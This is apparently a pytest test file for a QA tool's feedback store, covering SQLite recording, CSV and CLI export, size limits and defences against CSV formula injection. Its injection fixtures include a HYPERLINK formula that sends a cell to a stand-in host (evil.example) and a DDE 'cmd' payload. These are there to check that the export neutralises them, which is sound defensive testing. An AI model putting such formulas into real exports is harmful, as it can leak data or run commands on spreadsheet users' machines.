import csv
import io
import json
from datetime import UTC, datetime

import pytest

from journalqa import feedback

ANSWER = {
    "question": "Who coordinates TAPI?",
    "query": "Who coordinates TAPI?",
    "answer": "The ADB coordinates it. [1]",
    "abstained": False,
    "mode": "extractive",
    "citations": [
        {
            "n": 1,
            "chunk_id": "doc#3",
            "doc_id": "doc",
            "title": "T",
            "section": "S",
            "page": "12",
            "highlights": [[0, 9]],
        }
    ],
}


def test_record_then_update_keeps_one_row(tmp_path):
    db = tmp_path / "sub" / "fb.sqlite3"
    t0 = datetime(2026, 1, 1, tzinfo=UTC)
    first = feedback.record(db, "a1", answer=ANSWER, rating="up", settings={"top_k": 5}, now=t0)
    second = feedback.record(db, "a1", answer=ANSWER, comment="good source", now=datetime(2026, 1, 2, tzinfo=UTC))
    assert first == second
    [row] = feedback.rows(db)
    assert row["rating"] == 1  # a comment alone leaves the thumb as it was
    assert row["comment"] == "good source"
    assert row["created_at"].startswith("2026-01-01") and row["updated_at"].startswith("2026-01-02")
    assert json.loads(row["citations"])[0]["chunk_id"] == "doc#3"
    assert json.loads(row["settings"]) == {"top_k": 5}
    feedback.record(db, "a1", answer=ANSWER, rating=-1)
    assert feedback.rows(db)[0]["rating"] == -1


def test_rows_of_missing_file_is_empty(tmp_path):
    assert feedback.rows(tmp_path / "none.sqlite3") == []
    assert not (tmp_path / "none.sqlite3").exists()


@pytest.mark.parametrize("bad", ["meh", 0, 2])
def test_bad_rating(tmp_path, bad):
    with pytest.raises(ValueError):
        feedback.record(tmp_path / "fb.sqlite3", "a", answer=ANSWER, rating=bad)


def test_write_csv(tmp_path):
    db = tmp_path / "fb.sqlite3"
    feedback.record(db, "a1", answer=ANSWER, rating="up")
    feedback.record(db, "a2", answer={**ANSWER, "question": 'with "quotes", commas'}, rating="down", comment="x\ny")
    out = io.StringIO()
    assert feedback.write_csv(feedback.rows(db), out) == 2
    parsed = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["answer_id"] for r in parsed] == ["a1", "a2"]
    assert parsed[1]["question"] == 'with "quotes", commas' and parsed[1]["comment"] == "x\ny"
    assert list(parsed[0]) == list(feedback.COLUMNS)


def test_cli_feedback_export(tmp_path, capsys):
    from journalqa.cli import main

    db = tmp_path / "fb.sqlite3"
    feedback.record(db, "a1", answer=ANSWER, rating="up", comment="ok")
    out = tmp_path / "fb.csv"
    assert main(["feedback", "export", "--csv", "--db", str(db), "--out", str(out)]) == 0
    assert "1 feedback rows" in capsys.readouterr().err
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["rating"] == "1" and row["comment"] == "ok"
    assert main(["feedback", "export", "--db", str(db)]) == 0
    assert capsys.readouterr().out.startswith("id,answer_id,")


# --- CSV formula injection: what a spreadsheet would run must reach it as text -----------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# (field the text is stored in, text, exported cell). OWASP: any text starting with = + - @ tab CR gets
# a leading ', even "-5 degrees"; a spreadsheet cannot tell it from a formula, so neither do we.
INJECTIONS = [
    ("comment", HYPERLINK, "'" + HYPERLINK),
    ("question", "=1+1", "'=1+1"),
    ("question", "+SUM(1,2)", "'+SUM(1,2)"),
    ("question", "-2+3", "'-2+3"),
    ("question", "@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("question", "\t=1+1", "'\t=1+1"),
    ("question", "\r=1+1", "'\r=1+1"),
    ("question", "-5 degrees in Kabul in January?", "'-5 degrees in Kabul in January?"),
    ("answer", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("query", "@x", "'@x"),
    # left alone: no formula start, or already the neutral apostrophe
    ("comment", "a = b, fine", "a = b, fine"),
    ("comment", "'quoted", "'quoted"),
    ("question", "Who coordinates TAPI?", "Who coordinates TAPI?"),
]


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> dict[str, dict[str, str]]:
    """Every INJECTIONS text stored through the library in a real SQLite file, exported by the real CLI."""
    import subprocess
    import sys

    base = tmp_path_factory.mktemp("injection")
    db = base / "fb.sqlite3"
    for i, (field, text, _) in enumerate(INJECTIONS):
        if field == "comment":
            feedback.record(db, f"a{i}", answer=ANSWER, rating="down", comment=text)
        else:
            feedback.record(db, f"a{i}", answer={**ANSWER, field: text}, rating="down")
    out = base / "fb.csv"
    command = [sys.executable, "-m", "journalqa.cli", "feedback", "export", "--csv", "--db", str(db), "--out", str(out)]
    result = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as handle:
        return {row["answer_id"]: row for row in csv.DictReader(handle)}


@pytest.mark.parametrize(("i", "field", "text", "cell"), [(i, *case) for i, case in enumerate(INJECTIONS)])
def test_export_neutralises_formula_cells(exported, i, field, text, cell):
    row = exported[f"a{i}"]
    assert row[field] == cell
    assert row["rating"] == "-1"  # our own number stays a number a spreadsheet can sum


def test_stored_text_is_left_exact(tmp_path):
    db = tmp_path / "fb.sqlite3"
    feedback.record(db, "a1", answer={**ANSWER, "question": "=1+1"}, comment=HYPERLINK)
    [row] = feedback.rows(db)
    assert row["question"] == "=1+1" and row["comment"] == HYPERLINK


# --- size limits ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("length", "limit", "message"),
    [
        (5_000_000, None, "comment is 5,000,000 characters, over the 4,000 limit"),
        (4001, None, "comment is 4,001 characters, over the 4,000 limit"),
        (11, 10, "comment is 11 characters, over the 10 limit"),
    ],
)
def test_comment_over_the_limit_is_refused_and_nothing_changes(tmp_path, length, limit, message):
    db = tmp_path / "fb.sqlite3"
    feedback.record(db, "a1", answer=ANSWER, rating="up", comment="first")
    with pytest.raises(feedback.FeedbackTooLong) as caught:
        feedback.record(db, "a1", answer=ANSWER, rating="down", comment="x" * length, max_comment_chars=limit)
    assert str(caught.value) == message
    assert isinstance(caught.value, ValueError)
    [row] = feedback.rows(db)
    assert (row["comment"], row["rating"]) == ("first", 1)  # the refused call stored nothing, not even the thumb


def test_comment_at_the_limit_is_stored(tmp_path):
    db = tmp_path / "fb.sqlite3"
    feedback.record(db, "a1", answer=ANSWER, comment="x" * 4000)
    feedback.record(db, "a2", answer=ANSWER, comment="y" * 50, max_comment_chars=50)
    assert [len(r["comment"]) for r in feedback.rows(db)] == [4000, 50]


def test_default_limit_is_the_settings_default():
    from journalqa.config import Settings

    assert Settings().max_comment_chars == 4000


@pytest.mark.parametrize("field", ["question", "query", "answer"])
def test_huge_answer_text_is_cut_not_refused(tmp_path, field):
    db = tmp_path / "fb.sqlite3"
    feedback.record(db, "a1", answer={**ANSWER, field: "z" * 1_000_000}, rating="up")
    [row] = feedback.rows(db)
    assert len(row[field]) == feedback.MAX_STORED_TEXT_CHARS
    assert row[field].endswith("[truncated]") and row["rating"] == 1


def test_huge_answer_id_is_refused(tmp_path):
    with pytest.raises(feedback.FeedbackTooLong, match="answer id is 10,000 characters, over the 200 limit"):
        feedback.record(tmp_path / "fb.sqlite3", "i" * 10_000, answer=ANSWER, rating="up")
